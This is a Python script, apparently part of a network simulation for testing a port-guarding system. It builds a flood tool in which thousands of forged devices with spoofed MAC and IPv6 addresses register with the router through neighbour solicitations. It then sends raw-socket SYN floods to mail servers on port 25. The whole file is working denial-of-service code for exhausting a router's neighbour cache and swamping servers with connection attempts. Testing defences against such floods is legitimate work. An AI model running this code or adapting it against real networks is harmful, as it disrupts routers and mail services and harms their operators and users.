"""A hostile device: thousands of forged devices, each with its own MAC and IPv6 address, open mail connections.

Each makes itself known to the router (RFC 4861, 7.2.3: a solicitation creates a neighbour), then sends SYNs to ever new
servers. Runs as a program on a device and prints one line of JSON.
"""

import argparse
import ipaddress
import json
import socket
import struct
import time

from portvagt_sim.addresses import LAN_ROUTER, MX_COUNT, mx

INTERFACE = "eth0"
TURN_SECONDS = 0.002
MAX_DEVICES, MAX_RATE, MAX_SECONDS = 60_000, 100_000.0, 60.0
ETHERTYPE_IPV6 = 0x86DD
ROUTER_ADDRESS = ipaddress.IPv6Address(LAN_ROUTER.v6)
LAN = int(ROUTER_ADDRESS) >> 64 << 64
SOLICITED_NODE = int(ipaddress.IPv6Address("ff02::1:ff00:0"))  # RFC 4291, 2.7.1
NEIGHBOUR_SOLICITATION, SOURCE_LINK_LAYER_ADDRESS = 135, 1  # RFC 4861, 4.3 and 4.6.1


def checksum(data: bytes) -> int:
    """RFC 1071, of an even number of bytes."""
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Forged:
    """Device `number` of those that there are not."""

    def __init__(self, number: int, router_mac: bytes) -> None:
        self.mac = b"\x02\xf0" + number.to_bytes(4, "big")
        self.address = (LAN | 0xF0 << 32 | number).to_bytes(16, "big")
        self._router_mac = router_mac

    def solicitation(self) -> bytes:
        """The frame that makes the router know it."""
        low = int(ROUTER_ADDRESS) & 0xFFFFFF
        group = (SOLICITED_NODE | low).to_bytes(16, "big")
        option = struct.pack(">BB6s", SOURCE_LINK_LAYER_ADDRESS, 1, self.mac)
        head, rest = struct.pack(">BB", NEIGHBOUR_SOLICITATION, 0), bytes(4) + ROUTER_ADDRESS.packed + option
        body = self._checked(group, socket.IPPROTO_ICMPV6, head, rest)
        return self._frame(b"\x33\x33\xff" + low.to_bytes(3, "big"), group, socket.IPPROTO_ICMPV6, 255, body)

    def syn(self, number: int, destination: bytes, port: int) -> bytes:
        """The frame of its connection `number`."""
        head = struct.pack(">HHIIBBH", 1024 + number % 60_000, port, number, 0, 0x50, 2, 65535)
        body = self._checked(destination, socket.IPPROTO_TCP, head, b"\0\0")
        return self._frame(self._router_mac, destination, socket.IPPROTO_TCP, 64, body)

    def _checked(self, destination: bytes, protocol: int, before: bytes, after: bytes) -> bytes:
        """`before`, the checksum, `after`: with the pseudo header of RFC 8200, 8.1."""
        length = len(before) + 2 + len(after)
        pseudo = self.address + destination + struct.pack(">II", length, protocol)
        return before + struct.pack(">H", checksum(pseudo + before + after)) + after

    def _frame(self, mac: bytes, destination: bytes, protocol: int, hops: int, body: bytes) -> bytes:
        ethernet = mac + self.mac + struct.pack(">H", ETHERTYPE_IPV6)
        return ethernet + struct.pack(">IHBB", 6 << 28, len(body), protocol, hops) + self.address + destination + body


def frames(args: argparse.Namespace, router_mac: bytes) -> list[bytes]:
    """A solicitation of each device before its first SYN; then a SYN of each in turn."""
    devices = [Forged(number, router_mac) for number in range(args.devices)]
    servers = [ipaddress.IPv6Address(mx(each + 1).v6).packed for each in range(MX_COUNT)]
    found = []
    for number in range(int(args.rate * args.seconds)):
        device = devices[number % len(devices)]
        if number < len(devices):
            found.append(device.solicitation())
        found.append(device.syn(number, servers[number % len(servers)], args.port))
    return found


def flood(prepared: list[bytes], rate: float, seconds: float) -> dict[str, float]:
    """Send what fits into the time: {sent, seconds}."""
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sender:
        sender.bind((INTERFACE, 0))
        start = time.monotonic()
        while sent < len(prepared) and time.monotonic() - start < seconds:
            due = min(len(prepared), int((time.monotonic() - start) * rate) + 1)
            for frame in prepared[sent:due]:
                sender.send(frame)
            sent = due
            time.sleep(TURN_SECONDS)
        return {"sent": sent, "seconds": round(time.monotonic() - start, 2)}


def main() -> None:
    """Run as a program."""
    parser = argparse.ArgumentParser(description="Floods of forged devices.")
    parser.add_argument("--devices", type=int, default=10_000)
    parser.add_argument("--rate", type=float, default=50_000.0, help="frames a second")
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--port", type=int, default=25)
    parser.add_argument("--router-mac", type=lambda text: bytes.fromhex(text.replace(":", "")), required=True)
    args = parser.parse_args()
    if not 0 < args.devices <= MAX_DEVICES or not 0 < args.rate <= MAX_RATE or not 0 < args.seconds <= MAX_SECONDS:
        parser.error(f"at most {MAX_DEVICES} devices, {MAX_RATE:g} frames a second, {MAX_SECONDS:g} s")
    print(json.dumps(flood(frames(args, args.router_mac), args.rate, args.seconds)), flush=True)


if __name__ == "__main__":
    main()
